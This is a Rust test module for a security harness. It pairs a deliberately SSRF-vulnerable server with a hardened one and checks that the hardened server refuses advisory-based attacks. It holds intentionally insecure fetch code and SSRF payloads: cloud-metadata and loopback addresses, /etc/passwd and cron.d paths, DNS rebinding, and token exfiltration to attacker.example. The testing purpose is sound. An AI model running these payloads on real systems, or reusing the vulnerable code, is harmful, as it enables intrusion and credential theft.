//! SSRF: the server fetches for the caller what the caller cannot reach.
//!
//! The twin has the holes of the advisories: it takes any address, or one that a look at the
//! text finds harmless; it follows redirects, `$ref`s and headers; it looks a name up twice; and
//! it sends its token to wherever it was told.

use std::{
    env, fs, io,
    net::{IpAddr, Ipv4Addr},
    path::PathBuf,
};

use serde_json::{Value, json};

use crate::{
    internet::{
        Place, World,
        case::{Case, Harm, is_denied_step},
        client,
    },
    ours::{Over, Running},
    report::{Attack, Played, Stopped},
    twin,
    wire::{Http, Server},
};

/// The naive server over stdio; its argument is the folder.
pub fn twin() {
    let root = PathBuf::from(env::args().nth(1).unwrap());
    let token = format!("Bearer {}", env::var("API_TOKEN").unwrap());
    twin::over_stdio(|line| {
        twin::answer(&serde_json::from_str(line).ok()?, |tool, arguments| {
            let argument = |name: &str| arguments[name].as_str().unwrap_or_default().to_owned();
            let authorization = [("Authorization", token.as_str())];
            match tool {
                "search" => client::get(&portal(&argument("base_url"))?, &[]),
                "download" => {
                    let page = client::get(&portal(&argument("url"))?, &[])?;
                    fs::write(root.join(argument("output_dir")).join("page"), &page)?;
                    Ok(page)
                }
                "picture" => {
                    let host = argument("image_url");
                    client::get(&format!("http://{host}.cdn.example/picture"), &[])
                }
                "status" => {
                    let url = "http://gateway.example/status";
                    if !is_public(client::resolve("gateway.example")?) {
                        return Err(io::Error::other("not a public address"));
                    }
                    client::get(url, &[])
                }
                "entries" => {
                    // `{ ...defaults, ...arguments }`
                    let host = arguments["host"].as_str().unwrap_or("api.example");
                    let space = argument("space");
                    let url = if space.contains("://") {
                        space
                    } else {
                        format!("http://{host}/spaces/{space}")
                    };
                    client::get(&url, &authorization)
                }
                "import" => {
                    let document: Value = serde_json::from_str(&argument("document"))?;
                    client::get(document["$ref"].as_str().unwrap_or_default(), &[])
                }
                _ => Err(io::Error::other("unknown tool")),
            }
        })
    });
}

/// Where a portal is: its name, or its address. An address is checked as it is written.
fn portal(text: &str) -> io::Result<String> {
    if !text.contains("://") {
        return Ok(format!("http://{text}.opendata.example/api/3/search"));
    }
    Ok(text.to_owned())
}

fn is_public(address: IpAddr) -> bool {
    match address {
        IpAddr::V4(address) => !address.is_private() && address != Ipv4Addr::LOCALHOST,
        IpAddr::V6(_) => true,
    }
}

/// The naive server over HTTP, which a header tells where its service is.
pub fn twin_http() {
    twin::over_http(|request, mut stream| {
        let named = ["x-atlassian-jira-url", "x-n8n-url"].map(|name| request.header(name));
        let base = named.into_iter().find(|url| !url.is_empty());
        let base = base.unwrap_or("http://api.example").to_owned();
        let answer = twin::answer(&request.json(), |_, _| client::get(&base, &[]));
        let answer = answer.unwrap_or_default().to_string();
        twin::reply(&mut stream, (200, Vec::new(), answer))
    });
}

pub fn attacks() -> Vec<Attack> {
    let attacks = CASES.iter().flat_map(|case| case.attacks("twin ssrf"));
    let mut attacks: Vec<Attack> = attacks.collect();
    for over in [Over::Stdio, Over::Http] {
        attacks.push(Attack::new(
            "CVE-2026-53708",
            over.name(),
            "the name is public when it is checked, and this machine when it is fetched",
            move || rebinding(over),
        ));
    }
    for (advisory, header) in [
        ("CVE-2026-27826", "X-Atlassian-Jira-Url"),
        ("CVE-2026-39974", "X-N8n-Url"),
    ] {
        attacks.push(Attack::new(
            advisory,
            "",
            "a header of the caller says where the service is",
            move || by_header(header),
        ));
    }
    attacks
}

/// The name server flips its answer between the first question and the second.
fn rebinding(over: Over) -> Played {
    let world = World::new();
    let scene = world.scene();
    let mut twin = Server::start("twin ssrf", [&scene.root], &scene);
    twin.initialize();
    let answer = twin.call("status", json!({}));
    assert!(
        Harm::Leak.done(&world, &scene, &answer).is_some(),
        "the twin was not exploited: {answer}"
    );

    let scene = world.scene();
    let mut ours = Running::start_as("ours web", over, &scene, &json!({}));
    // One question for each connection: what was judged is what is dialed.
    let (answer, caller) = ours.call("status", json!({}));
    assert_eq!(caller.trim_start_matches("200 "), "nothing secret");
    assert_eq!(Harm::Leak.done(&world, &scene, &answer), None);
    assert_eq!(world.heard_at(Place::Public).len(), 1);
    let record = ours.record("of the first call", |r| r["target"] == "status");
    assert_eq!(record["steps"][0]["outcome"], "ok", "{record}");
    // The next connection asks again, and the answer is another one.
    let (answer, caller) = ours.call("status", json!({}));
    assert_eq!(Harm::Leak.done(&world, &scene, &answer), None, "{answer}");
    world.is_untouched();
    let record = ours.refused_by("net/address");
    is_denied_step(&record, "net/address");
    assert!(record.to_string().contains("127.0.0.1"), "{record}");
    ours.still_works();
    Played {
        transport: over.name(),
        twin: "sent the secret".to_owned(),
        caller,
        stopped: Stopped::Refused(record),
    }
}

fn by_header(header: &'static str) -> Played {
    let world = World::new();
    let scene = world.scene();
    let request = || {
        Http::stateless_call("entries", json!({ "space": "mine" }))
            .with(header, "http://169.254.169.254/latest/meta-data/")
    };
    let mut twin = Server::start("twin ssrf http", [""; 0], &scene);
    let answer = request().send(twin.address()).unwrap();
    assert!(
        answer.body.contains(&world.secret),
        "the twin was not exploited: {answer:?}"
    );

    let scene = world.scene();
    let mut ours = Running::start_as("ours web", Over::Http, &scene, &json!({}));
    let answer = ours.send(&request().bearer(&ours.token));
    assert_eq!(answer.status, 200, "{answer:?}");
    assert!(!answer.body.contains(&world.secret), "{answer:?}");
    world.is_untouched();
    let heard = world.heard_at(Place::Public);
    assert_eq!(heard[0].line, "GET /spaces/mine");
    assert_eq!(heard[0].host, "api.example");
    let record = ours.record("of the call", |record| record["target"] == "entries");
    let step = &record["steps"][0];
    assert_eq!(step["outcome"], "ok", "{record}");
    assert_eq!(step["action"], "GET https://api.example/spaces/{space}");
    ours.still_works();
    Played {
        transport: "http",
        twin: "sent the secret".to_owned(),
        caller: answer.seen(),
        stopped: Stopped::Harmless("no header says where a request goes", record),
    }
}

/// A call whose address is the caller's own; ours takes a label below the granted host.
const fn address(
    advisory: &'static str,
    variant: [&'static str; 2],
    words: &'static str,
    arguments: &'static str,
    control: &'static str,
) -> Case {
    Case {
        advisory,
        variant,
        words,
        tool: "search",
        arguments,
        harm: Harm::Leak,
        control,
    }
}

const BOTH: [&str; 2] = ["stdio", "http"];

const CASES: &[Case] = &[
    address(
        "CVE-2026-33060",
        BOTH,
        "the portal's address is that of the metadata service",
        r#"{ "base_url": "http://169.254.169.254" }"#,
        "net/host",
    ),
    address(
        "CVE-2026-53509",
        ["named, stdio", "named, http"],
        "the portal's address is a name that leads to this machine",
        r#"{ "base_url": "http://127.0.0.1.nip.io" }"#,
        "net/host",
    ),
    address(
        "CVE-2026-53509",
        ["granted, stdio", "granted, http"],
        "a name that is granted leads to this machine",
        r#"{ "base_url": "loopback" }"#,
        "net/address",
    ),
    address(
        "CVE-2026-49857",
        BOTH,
        "this machine, as IPv4 within IPv6 in hexadecimal",
        r#"{ "base_url": "http://[::ffff:7f00:1]/" }"#,
        "net/host",
    ),
    Case {
        advisory: "GHSA-hv85-774v-26fg",
        variant: ["url, stdio", "url, http"],
        words: "any address is fetched",
        tool: "download",
        arguments: r#"{ "url": "http://169.254.169.254/latest/", "output_dir": "competitions" }"#,
        harm: Harm::Leak,
        control: "net/host",
    },
    Case {
        advisory: "GHSA-hv85-774v-26fg",
        variant: ["folder, stdio", "folder, http"],
        words: "what is fetched is saved in any folder",
        tool: "download",
        arguments: r#"{ "url": "data", "output_dir": "{out}/etc/cron.d" }"#,
        harm: Harm::Made("outside/etc/cron.d/page"),
        control: "validate/schema",
    },
    address(
        "CVE-2026-42449",
        ["literal, stdio", "literal, http"],
        "the metadata service, as IPv4 within IPv6",
        r#"{ "base_url": "http://[::ffff:169.254.169.254]/" }"#,
        "net/host",
    ),
    address(
        "CVE-2026-42449",
        ["granted, stdio", "granted, http"],
        "a name that is granted leads to the metadata service, as IPv4 within IPv6",
        r#"{ "base_url": "mapped" }"#,
        "net/address",
    ),
    Case {
        advisory: "CVE-2026-53957",
        variant: BOTH,
        words: "the arguments name another host and a proxy for the client",
        tool: "entries",
        arguments: r#"{ "space": "mine", "host": "evil.example", "proxy": "evil.example:8080" }"#,
        harm: Harm::Arrived(Place::Attacker, "{token}"),
        control: "validate/schema",
    },
    Case {
        advisory: "CVE-2026-26118",
        variant: BOTH,
        words: "the resource is an address of the attacker, who gets the server's token",
        tool: "entries",
        arguments: r#"{ "space": "http://attacker.example/resource" }"#,
        harm: Harm::Arrived(Place::Attacker, "{token}"),
        control: "net/path",
    },
    Case {
        advisory: "CVE-2026-54549",
        variant: BOTH,
        words: "a picture's address redirects to the metadata service",
        tool: "picture",
        arguments: r#"{ "image_url": "moved" }"#,
        harm: Harm::Leak,
        control: "net/redirect",
    },
    Case {
        advisory: "CVE-2026-54549",
        variant: ["same scheme, stdio", "same scheme, http"],
        words: "a picture's address redirects to the metadata service, and says `https`",
        tool: "picture",
        arguments: r#"{ "image_url": "moved-with-tls" }"#,
        harm: Harm::Leak,
        control: "net/redirect",
    },
    address(
        "CVE-2026-5832",
        BOTH,
        "the address is that of a database on this machine",
        r#"{ "base_url": "http://127.0.0.1:6379" }"#,
        "net/host",
    ),
    address(
        "CVE-2026-31945",
        BOTH,
        "a public name leads into the private network",
        r#"{ "base_url": "intranet" }"#,
        "net/address",
    ),
    Case {
        advisory: "CVE-2026-39885",
        variant: ["address, stdio", "address, http"],
        words: "a reference in a description is fetched",
        tool: "import",
        arguments: r#"{ "document": "{\"$ref\":\"http://169.254.169.254/\"}" }"#,
        harm: Harm::Leak,
        control: "net/path",
    },
    Case {
        advisory: "CVE-2026-39885",
        variant: ["file, stdio", "file, http"],
        words: "a reference in a description is a file of the server",
        tool: "import",
        arguments: r#"{ "document": "{\"$ref\":\"file://{out}/etc/passwd\"}" }"#,
        harm: Harm::File,
        control: "net/path",
    },
    address(
        "CVE-2026-4339",
        BOTH,
        "an attachment is fetched from the private network",
        r#"{ "base_url": "http://10.0.0.5/" }"#,
        "net/host",
    ),
    address(
        "CVE-2026-42260",
        BOTH,
        "the private network, as IPv4 within IPv6 with all its zeros",
        r#"{ "base_url": "http://[0:0:0:0:0:ffff:a00:5]/" }"#,
        "net/host",
    ),
    address(
        "CVE-2026-5470",
        BOTH,
        "the page to read is that of the metadata service, as one number",
        r#"{ "base_url": "http://2852039166/" }"#,
        "net/host",
    ),
    address(
        "CVE-2026-10280",
        BOTH,
        "the server's base address is this machine",
        r#"{ "base_url": "http://127.1/" }"#,
        "net/host",
    ),
];
